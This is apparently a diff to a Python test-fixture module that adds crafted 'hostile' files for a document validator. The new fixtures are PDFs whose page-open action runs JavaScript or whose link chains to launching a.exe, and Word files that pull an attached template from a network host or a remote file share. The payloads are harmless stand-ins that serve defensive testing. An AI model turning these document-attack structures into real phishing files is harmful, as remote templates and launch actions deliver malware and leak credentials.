@@ -132,6 +132,19 @@ def jpg(*, more: bytes = b"") -> bytes:
     return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 40 + b"\xff\xd9" + more
 
 
+def _relation(kind: str, target: str) -> bytes:
+    family = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="r1" Type="{family}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
+    ).encode()
+
+
+def docx_from(template: str) -> bytes:
+    """An order that was begun with a template of the office."""
+    return with_part(docx(), "word/_rels/settings.xml.rels", _relation("attachedTemplate", template))
+
+
 @cache
 def every_kind() -> Mapping[str, bytes]:
     """By the ending of the kind."""
@@ -151,6 +164,17 @@ def hostile() -> Mapping[str, tuple[str, bytes]]:
         "zip after a pdf": ("Приказ.pdf", pdf() + zipped({"a.txt": b"a"})),
         "pdf before a docx": ("Приказ.docx", pdf() + written),
         "pdf that runs a script": ("Приказ.pdf", pdf(root=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
+        "pdf whose page runs a script": (
+            "Приказ.pdf",
+            pdf().replace(b"/Type /Page ", b"/Type /Page /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> "),
+        ),
+        "pdf whose link starts a program": (
+            "Приказ.pdf",
+            pdf().replace(
+                b"/Type /Page ",
+                b"/Type /Page /Annots [<< /Subtype /Link /A << /S /URI /URI (x) /Next << /S /Launch /F (a.exe) >> >> >>] ",
+            ),
+        ),
         "pdf that carries files": ("Приказ.pdf", pdf(root=b"/Names << /EmbeddedFiles << /Names [] >> >>")),
         "pdf without objects": ("Приказ.pdf", b"%PDF-1.4\n%%EOF"),
         "pdf cut short": ("Приказ.pdf", pdf()[:400]),
@@ -164,6 +188,14 @@ def hostile() -> Mapping[str, tuple[str, bytes]]:
         "docm by its type": (
             "Приказ.docx",
             with_part(written, "x.txt", b"", types=(macros[0], b"vnd.ms-word.document.macroEnabled.main+xml")),
+        ),
+        "docx with a template from the network": (
+            "Приказ.docx",
+            docx_from("https://a.example/t.dotm"),
+        ),
+        "docx with a template from another computer": (
+            "Приказ.docx",
+            docx_from(r"file:///\\host\t.dotm"),
         ),
         "docx with a control": ("Приказ.docx", with_part(written, "word/activeX/activeX1.bin", b"x")),
         "odt with macros": (
